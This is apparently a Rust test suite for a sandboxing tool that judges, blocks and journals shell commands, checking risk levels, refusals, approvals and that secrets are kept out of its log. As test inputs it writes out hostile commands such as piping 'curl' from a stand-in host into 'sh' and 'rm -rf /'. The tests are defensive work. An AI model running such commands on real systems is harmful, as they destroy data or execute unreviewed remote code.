//! The verdict in the journal: what was judged, what was refused, who approved it, and that what
//! came before weighs in.

use serde_json::Value;

use crate::support::{Outcome, Scene, python_at_a_terminal};

/// High: code from the network that nobody has read.
const RISKY: [&str; 3] = ["sh", "-c", "touch ran; curl -fsS https://host.invalid/x | sh"];

#[track_caller]
fn run(scene: &Scene, flags: &[&str], command: &[&str]) -> Outcome {
    scene.run(&[&["run"], flags, &["--"], command].concat())
}

#[track_caller]
fn refuse(scene: &Scene) {
    run(scene, &[], &["rm", "-rf", "/"]).code(123);
}

fn newest(scene: &Scene) -> Value {
    scene.log()[0].clone()
}

fn rules(operation: &Value) -> Vec<String> {
    let rules = operation["request"]["verdict"]["rules"].as_array().expect("rules");
    rules.iter().map(|rule| rule.as_str().expect("text").to_owned()).collect()
}

#[test]
fn every_command_is_journaled_with_its_verdict() {
    let scene = Scene::new();
    run(&scene, &[], &["ls"]).ok();
    let verdict = newest(&scene)["request"]["verdict"].clone();
    assert_eq!((&verdict["risk"], &verdict["decision"]), (&"low".into(), &"allow".into()));
    assert_eq!(verdict["programs"][0], "ls");
    assert_eq!(verdict["approval"], Value::Null);
    run(&scene, &[], &["sh", "-c", "ulimit -u unlimited; true"]).ok();
    let shown = scene.ok(&["show", &scene.last()]);
    assert!(shown.contains("medium risk") && shown.contains("allow"), "{shown}");
}

#[test]
fn what_was_refused_is_kept_where_a_sandbox_is() {
    let scene = Scene::new();
    refuse(&scene);
    assert!(!scene.store.exists(), "no sandbox is made for it");
    scene.inside("echo a > f");
    refuse(&scene);
    let kept = newest(&scene);
    assert_eq!((&kept["status"], &kept["after"]), (&"blocked".into(), &Value::Null));
    assert_eq!(kept["request"]["verdict"]["risk"], "critical");
    assert!(rules(&kept).contains(&"delete-root".to_owned()), "{kept}");
    let shown = scene.ok(&["show", &scene.last()]);
    for text in ["blocked", "critical risk", "delete-root", "rm -rf /"] {
        assert!(shown.contains(text), "{text}: {shown}");
    }
    assert!(scene.ok(&["log"]).contains("blocked"));
    scene.run(&["undo", "--operation", &scene.last()]).code(123).says(&["not let run"]);
    run(&scene, &["--profile", "testing"], &RISKY).code(123);
    let kept = newest(&scene);
    assert_eq!(
        (&kept["status"], &kept["request"]["verdict"]["decision"]),
        (&"blocked".into(), &"confirm".into())
    );
    scene.ok(&["new", "box"]);
    scene.run(&["exec", "box", "--", "rm", "-rf", "/"]).code(123);
    assert_eq!(scene.json(&["log", "box"])["operations"][0]["status"], "blocked");
    // With another root it would have been another sandbox.
    let before = scene.log().len();
    run(&scene, &["--root", "overlay"], &["rm", "-rf", "/"]).code(123);
    assert_eq!(scene.log().len(), before);
}

/// What a user sees after each of many steps, with what was refused in between or without.
fn history(refusals: bool) -> Vec<String> {
    let scene = Scene::with("echo base > base");
    let mut seen = Vec::new();
    let mut runs = Vec::new();
    let mut step = |arguments: &[&str]| {
        if refusals {
            if seen.is_empty() {
                scene.ok(&["run", "--", "true"]);
            }
            refuse(&scene);
        } else if seen.is_empty() {
            scene.ok(&["run", "--", "true"]);
        }
        let first: String = runs.first().cloned().unwrap_or_default();
        let name = |word: &&str| if *word == "FIRST" { first.clone() } else { (*word).to_owned() };
        let words: Vec<String> = arguments.iter().map(name).collect();
        let outcome = scene.run(&words.iter().map(String::as_str).collect::<Vec<_>>());
        if arguments[0] == "run" {
            runs.push(scene.last());
        }
        seen.push(format!("{arguments:?}"));
        let live = scene.host("grep -r . . || true");
        seen.push(format!("{:?} {:?} {live:?}", outcome.status.code(), scene.changes()));
    };
    step(&["run", "--", "sh", "-c", "echo 1 > a"]);
    step(&["run", "--", "sh", "-c", "echo 2 > b"]);
    step(&["undo"]);
    step(&["redo"]);
    step(&["undo", "--operation", "FIRST"]);
    step(&["redo"]);
    step(&["snapshot", "-m", "here"]);
    step(&["run", "--", "sh", "-c", "echo 3 >> b"]);
    step(&["commit"]);
    step(&["undo"]);
    step(&["redo"]);
    step(&["run", "--", "sh", "-c", "rm a"]);
    step(&["rollback", "FIRST"]);
    step(&["undo"]);
    step(&["discard"]);
    step(&["undo"]);
    step(&["undo"]);
    seen
}

#[test]
fn what_was_refused_is_in_nobodys_way() {
    let (without, with) = (history(false), history(true));
    assert_eq!(without, with);
    let failed =
        without.iter().filter(|line| !line.starts_with("Some(0)") && !line.starts_with('['));
    assert!(failed.count() <= 3, "the steps show little: {without:#?}");
}

#[test]
fn a_secret_is_not_kept() {
    let scene = Scene::new();
    run(&scene, &[], &["true"]).ok();
    let secret = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    run(&scene, &[], &["sh", "-c", &format!("rm -rf / # {secret}")]).code(123);
    run(&scene, &[], &["echo", secret]).ok();
    let log = scene.run(&["--json", "log"]).ok().out();
    assert!(log.contains("rm -rf /") && !log.contains(secret), "{log}");
    for file in ["store.db", "store.db-wal"] {
        let bytes = std::fs::read(scene.store.join(file)).unwrap_or_default();
        assert!(!bytes.windows(secret.len()).any(|part| part == secret.as_bytes()), "{file}");
    }
}

#[test]
fn who_approved_is_kept_with_what_was_approved() {
    let scene = Scene::new();
    let approval = |flags: &[&str]| {
        let outcome = run(&scene, flags, &RISKY);
        assert_ne!(outcome.status.code(), Some(123), "{outcome}");
        newest(&scene)["request"]["verdict"]["approval"].clone()
    };
    assert_eq!(approval(&[]), Value::Null, "nobody was asked");
    let yes = approval(&["--net", "host", "--yes"]);
    assert_eq!(yes["by"], "yes");
    assert_eq!(yes["hash"].as_str().map(str::len), Some(64));
    assert_eq!(approval(&["--net", "host", "--yes"]), yes, "the same is the same");
    let other = approval(&["--net", "host", "--yes", "--memory", "1G"]);
    assert_ne!(other["hash"], yes["hash"], "another limit is another operation");
    let shown = scene.ok(&["show", &scene.last()]);
    assert!(shown.contains("--yes") && shown.contains("no undo"), "{shown}");
    run(&scene, &["--allow-critical"], &["sh", "-c", "exit 0; rm -rf /"]).ok();
    assert_eq!(newest(&scene)["request"]["verdict"]["approval"]["by"], "allow-critical");
}

#[test]
fn an_answer_counts_only_for_what_was_asked() {
    let scene = Scene::new();
    run(&scene, &[], &["true"]).ok();
    python_at_a_terminal(
        &scene,
        r"
project = os.getcwd()
command = ['sh', '-c', 'touch ran; curl -fsS https://host.invalid/x | sh']
def elsewhere(seen):
    os.rename(project, project + '-moved')
    os.mkdir(project)
code, seen = answer(b'y\n', ['--net', 'host'], command, elsewhere)
assert code == 123 and b'approved' in seen, (code, seen)
os.rmdir(project)
os.rename(project + '-moved', project)
os.chdir(project)
code, seen = answer(b'y\n', ['--net', 'host'], command)
assert code != 123, seen
",
    )
    .ok();
    assert_eq!(scene.changes(), ["added ran"]);
    assert_eq!(newest(&scene)["request"]["verdict"]["approval"]["by"], "terminal");
}

#[test]
fn a_script_that_changed_since_is_not_what_was_approved() {
    let scene = Scene::with("echo 'echo one > one' > script.sh; echo x > other");
    let program = r"
import subprocess
command = ['sh', '-c', 'cd .; sh script.sh; curl -fsS https://host.invalid/x | sh']
def says(text, file='script.sh'):
    def change(seen):
        with open(file, 'w') as script:
            script.write(text)
    return change
def code(change):
    code, seen = answer(b'y\n', ['--net', 'host'], command, change)
    assert (code == 123) == (b'approved' in seen), (code, seen)
    return code
assert code(says('echo two > two\n')) == 123
assert code(says('echo two > two\n')) != 123, 'it is the same as before'
assert code(says('anything', 'other')) != 123, 'no part of it'
# The sandbox is there now, and has its own version of the script.
def inside(text):
    def change(seen):
        subprocess.run([os.environ['CTRLZ'], 'run', '--', 'sh', '-c', text], check=True)
    return change
assert code(inside('echo echo three \\> three > script.sh')) == 123
assert code(says('echo four > four\n')) != 123, 'the sandbox does not see that'
assert code(inside('rm script.sh')) == 123
";
    python_at_a_terminal(&scene, program).ok();
    assert_eq!(scene.changes(), ["deleted script.sh", "added three", "added two"]);
}

#[test]
fn a_shell_is_judged_like_any_command() {
    let scene = Scene::new();
    run(&scene, &[], &["true"]).ok();
    let shell = |scene: &Scene| {
        let mut command = scene.ctrlz(["shell"]);
        command.env("SHELL", "/bin/sh").stdin(std::process::Stdio::null());
        Outcome::of(&mut command)
    };
    shell(&scene).ok();
    let verdict = newest(&scene)["request"]["verdict"].clone();
    assert_eq!((&verdict["risk"], &verdict["programs"][0]), (&"low".into(), &"sh".into()));
    let folder = scene.home.join(".config/ctrlz/policy");
    std::fs::create_dir_all(&folder).expect("a folder");
    let pack = "- {id: no-shell, risk: critical, reason: nobody types here, program: sh}\n";
    std::fs::write(folder.join("mine.yaml"), pack).expect("a pack");
    shell(&scene).code(123).says(&["mine/no-shell"]);
    assert_eq!(newest(&scene)["status"], "blocked");
}

#[test]
fn a_refusal_is_not_got_around_in_other_words() {
    let scene = Scene::new();
    let (first, again) = (["rm", "-rf", "/etc"], ["rm", "-rf", "/etc/nginx"]);
    // By itself the second wants no more than a word: the sandbox holds the host's files.
    run(&scene, &[], &again).says(&["high risk"]);
    run(&scene, &[], &first).code(123);
    let outcome = run(&scene, &[], &again).code(123).says(&["critical", "tried-again"]);
    assert!(outcome.err().contains("in other words"), "{outcome}");
    run(&scene, &[], &["ls", "/etc"]).ok();
    // Somebody who approves it ends the refusal.
    let outcome = run(&scene, &["--allow-critical"], &first);
    assert_ne!(outcome.status.code(), Some(123), "{outcome}");
    run(&scene, &[], &again).says(&["high risk"]);
}

#[test]
fn much_deleted_is_told_when_it_goes_on() {
    let scene = Scene::with("mkdir d; cd d; seq 1 1200 | xargs touch; cd ..; echo x > last");
    run(&scene, &[], &["rm", "-rf", "d"]).ok();
    assert!(!rules(&newest(&scene)).contains(&"deletion-burst".to_owned()));
    run(&scene, &[], &["rm", "last"]).ok();
    assert!(rules(&newest(&scene)).contains(&"deletion-burst".to_owned()));
    assert_eq!(newest(&scene)["request"]["verdict"]["risk"], "medium");
}

#[test]
fn limits_and_a_network_that_is_off_are_told() {
    let scene = Scene::new();
    let script = "exit 0; sleep 30d; curl https://host.invalid/";
    run(&scene, &["--timeout", "60"], &["sh", "-c", script]).ok();
    let told = rules(&newest(&scene));
    for rule in ["over-time", "network-off"] {
        assert!(told.contains(&rule.to_owned()), "{told:?}");
    }
    run(&scene, &[], &["sh", "-c", script]).ok();
    assert!(!rules(&newest(&scene)).contains(&"over-time".to_owned()));
}
